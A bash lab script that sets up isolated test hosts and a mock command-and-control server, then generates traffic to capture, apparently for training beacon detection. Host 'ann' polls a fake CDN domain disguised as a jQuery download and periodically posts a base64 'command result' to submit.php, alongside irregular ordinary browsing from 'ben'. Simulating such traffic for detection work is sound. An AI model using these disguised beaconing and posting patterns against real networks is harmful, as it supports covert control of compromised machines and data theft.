#!/usr/bin/env bash
. "$(dirname "$0")/../lib/lab.sh"
. "$lib/servers.sh"

# A beacon: one small request about every second, now and then a command to fetch and a result to post.
bridge
host c2 198.51.100.66/24
host www 203.0.113.80/24
host ann 10.20.0.11/24
host ben 10.20.0.12/24
host dns 10.20.0.53/24
make_site "$lab/site"
nginx_on c2 80 <<CONF
server { listen 80; location / { default_type application/octet-stream; return 200 "sleep"; } }
CONF
nginx_on www 80 <<<"server { listen 80; root $lab/site; }"
named_on dns 10.20.0.53 <<ZONE
cdn-status.test. IN A 198.51.100.66
www.agency.example. IN A 203.0.113.80
ZONE
resolver 10.20.0.53

capture
beacon() {
  local turn
  for turn in $(seq 60); do
    quiet_curl ann -A 'Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)' -b "id=9f3a77c1" "http://cdn-status.test/jquery-3.3.1.min.js?n=$turn"
    [ $((turn % 20)) != 0 ] || quiet_curl ann -A 'Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)' \
      --data-binary 'dGhlIHJlc3VsdCBvZiBhIGNvbW1hbmQ=' http://cdn-status.test/submit.php?id=9f3a77c1
    sleep 1
  done
}
browse() { # ordinary and irregular, so that it must not look like a beacon
  local pause
  for pause in 2 7 1 12 4 9 3 1 11; do
    quiet_curl ben http://www.agency.example/news.html
    quiet_curl ben http://www.agency.example/logo.png
    sleep "$pause"
  done
}
browse &
reader=$!
beacon
wait "$reader"
finish curl nginx named
